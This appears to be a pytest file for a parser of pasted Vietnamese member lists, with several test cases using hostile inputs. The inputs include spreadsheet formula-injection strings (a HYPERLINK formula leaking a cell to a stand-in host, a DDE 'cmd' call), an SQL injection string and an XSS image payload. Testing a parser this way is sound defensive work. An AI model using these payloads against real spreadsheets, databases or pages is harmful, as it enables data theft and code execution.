"""The list of a group: every layout that people paste, every slip told by its own line."""

from __future__ import annotations

import pytest

from casework.acts.people import PersonInput
from workflows.desks.reception.member_list import Doubt, Fault, Member, read_members

KA_BRUM = PersonInput(name="Ka Brum", id_kind="cccd", id_number="068170991001")


def only(text: str) -> Member:
    found = read_members(text)
    assert len(found.members) == 1
    return found.members[0]


@pytest.mark.parametrize(
    "text",
    [
        "Cil Ha Juk\t068068991002\t0912000902\tThôn 2, xã Lạc Dương",
        "1\tCil Ha Juk\t068 068 991 002\t0912.000.902\tThôn 2, xã Lạc Dương",
        "Cil Ha Juk, 068068991002, 0912 000 902, Thôn 2, xã Lạc Dương",
        "1., Cil Ha Juk, 068068991002, +84 912 000 902, Thôn 2, xã Lạc Dương",
        "Cil Ha Juk; 068068991002; 84912000902; Thôn 2, xã Lạc Dương",
        'Cil Ha Juk,068068991002,0912000902,"Thôn 2, xã Lạc Dương"',
        "Số điện thoại\tHọ và tên\tĐịa chỉ\tCCCD\n0912000902\tCil Ha Juk\tThôn 2, xã Lạc Dương\t068068991002",
    ],
)
def test_a_line_is_read_whatever_its_layout(text: str) -> None:
    member = only(text)
    assert (member.name, member.paper.number, member.phone, member.address) == (
        "Cil Ha Juk",
        "068068991002",
        "+84912000902",
        "Thôn 2, xã Lạc Dương",
    )
    assert (member.faults, member.doubts) == ((), ())


@pytest.mark.parametrize(
    ("text", "faults"),
    [
        ("068068991002, 0912000902", (Fault.NO_NAME,)),
        ("\u200b, 068068991002", (Fault.NO_NAME,)),
        (f"{'A' * 201}", (Fault.NAME_TOO_LONG,)),
        ("Sùng, 06806899100", (Fault.LOST_ZERO,)),
        ("Sùng, 0680689910021", (Fault.NUMBER_LENGTH,)),
        ("Họ tên\tCCCD\nSùng\tO68O68991002", (Fault.NUMBER,)),
        ("Họ tên\tĐiện thoại\nSùng\t113", (Fault.PHONE,)),
        ("Họ tên\tĐiện thoại\nSùng\t0912345678 ext 5", (Fault.PHONE,)),
        ('=HYPERLINK("http://x?"&A1), 068068991002', (Fault.FORMULA,)),
        ("Sùng, =0912345678", (Fault.FORMULA,)),
        ("+cmd|' /C calc'!A0, 068068991002", (Fault.FORMULA,)),
        ("@SUM(1), 068068991002", (Fault.FORMULA,)),
        ("-2+3, 068068991002", (Fault.FORMULA,)),
        ("\uff1d1+1, 068068991002", (Fault.FORMULA,)),
    ],
)
def test_what_is_wrong_is_told_by_its_line(text: str, faults: tuple[Fault, ...]) -> None:
    assert only(text).faults == faults


@pytest.mark.parametrize(
    ("text", "name", "doubts"),
    [
        ("Đặng Thị Ngọc Ánh", "Đặng Thị Ngọc Ánh", ()),
        ("Ðạt", "Đạt", ()),
        ("H'Hen Niê", "H'Hen Niê", ()),
        ("null", "null", ()),
        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", ()),
        ("Robert'); DROP TABLE case;--\t068068991002", "Robert'); DROP TABLE case;--", ()),
        ("An\u202eBình", "AnBình", (Doubt.CONTROLS_REMOVED,)),
        ("An 😀", "An 😀", (Doubt.HAS_SYMBOLS,)),
        ("An, 999068991002", "An", (Doubt.UNKNOWN_PLACE,)),
        ("An, 0551234567", "An", (Doubt.UNKNOWN_PREFIX,)),
        ("Họ tên\tCCCD\tNăm sinh\nAn\t068068991002\t1970", "An", (Doubt.OTHER_BIRTH_YEAR,)),
        ("An, ０６８０６８９９１００２", "An", ()),
    ],
)
def test_what_is_odd_is_told_and_taken(text: str, name: str, doubts: tuple[Doubt, ...]) -> None:
    member = only(text)
    assert (member.name, member.doubts, member.faults) == (name, doubts, ())


def test_the_old_card_is_another_paper_and_a_number_of_nine_digits_under_telephone_is_a_telephone() -> None:
    old = only("Họ tên\tCMND\nAn\t250123456")
    assert (old.paper.kind, old.paper.number) == ("other", "250123456")
    assert only("An, 912000902").phone == "+84912000902"


def test_lines_keep_their_numbers_and_who_stands_there_twice_is_told_with_the_first() -> None:
    found = read_members("An, 068068991002\n\nBình, 068068991003\nAn Hai, 068068991002\nChi\nchi")
    assert [(m.line, m.faults, m.doubts, m.same_as) for m in found.members] == [
        (1, (), (), 0),
        (3, (), (), 0),
        (4, (Fault.TWICE,), (), 1),
        (5, (), (), 0),
        (6, (), (Doubt.SAME_NAME,), 5),
    ]
    assert [m.line for m in found.wrong] == [4]


def test_who_was_named_above_is_counted_once() -> None:
    found = read_members("Ka Brum, 068170991001\nCil Ha Juk, 068068991002", named=(KA_BRUM,))
    assert [m.name for m in found.others] == ["Cil Ha Juk"]
    assert found.is_good


def test_columns_that_are_not_asked_for_are_left_out_and_named() -> None:
    found = read_members("STT\tHọ và tên\tGhi chú\n1\tAn\tmật")
    assert (found.members[0].name, found.left_out) == ("An", ("STT", "Ghi chú"))


def test_more_than_five_hundred_are_not_taken_at_once() -> None:
    assert not read_members("\n".join(f"Người {n}" for n in range(501))).is_good
    assert read_members("\n".join(f"Người {n}" for n in range(500))).is_good
